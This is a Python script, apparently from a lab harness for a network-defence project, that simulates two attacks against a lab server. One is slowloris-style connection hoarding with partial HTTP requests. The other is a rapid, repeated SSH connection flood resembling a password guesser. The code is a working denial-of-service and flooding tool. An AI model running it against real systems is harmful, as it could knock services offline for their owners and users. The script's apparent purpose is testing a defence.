"""The two attackers that no common tool provides, as one program.

``python -m rstguard.lab.strike hoard`` opens connections, sends the beginning of a request on each
and is silent for ever; ``… brute`` knocks at port 22 again and again as a password guesser does.
Both end by themselves after ``--seconds``.
"""

from __future__ import annotations

import argparse
import asyncio
import resource
import time
from collections.abc import Awaitable, Callable

from rstguard.lab.topology import SERVER

# A request that has begun is not closed by nginx when it runs short, an idle connection is.
_BEGUN = b"GET / HTTP/1.1\r\nHost: lab\r\n"
_GUESS = b"SSH-2.0-libssh_0.9\r\n"


async def _hoard(end: float) -> None:
    try:
        reader, writer = await asyncio.open_connection(SERVER, 80)
    except OSError:
        return
    writer.write(_BEGUN)
    try:
        async with asyncio.timeout(end - time.monotonic()):
            await reader.read()
    except (TimeoutError, OSError):
        # Reset by whoever guards, or over: both are what this attacker reckons with.
        pass
    finally:
        writer.close()


async def _brute(_end: float) -> None:
    try:
        async with asyncio.timeout(2):
            reader, writer = await asyncio.open_connection(SERVER, 22)
            await reader.readline()
            writer.write(_GUESS)
            writer.close()
    except (TimeoutError, OSError):
        pass  # Refused or silent: try the next one.


async def _strike(
    attempt: Callable[[float], Awaitable[None]], *, rate: int, count: int, seconds: float
) -> None:
    begin = time.monotonic()
    end = begin + seconds
    running = []
    for number in range(count):
        running.append(asyncio.ensure_future(attempt(end)))
        await asyncio.sleep(max(begin + (number + 1) / rate - time.monotonic(), 0))
        if time.monotonic() >= end:
            break
    await asyncio.gather(*running)


def main() -> None:
    """Strike as the command line says."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("kind", choices=("hoard", "brute"))
    parser.add_argument("--rate", type=int, required=True, help="connections a second")
    parser.add_argument("--count", type=int, default=100_000, help="connections at most")
    parser.add_argument("--seconds", type=float, required=True)
    options = parser.parse_args()
    limit = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))
    attempt = _hoard if options.kind == "hoard" else _brute
    asyncio.run(_strike(attempt, rate=options.rate, count=options.count, seconds=options.seconds))


if __name__ == "__main__":
    main()
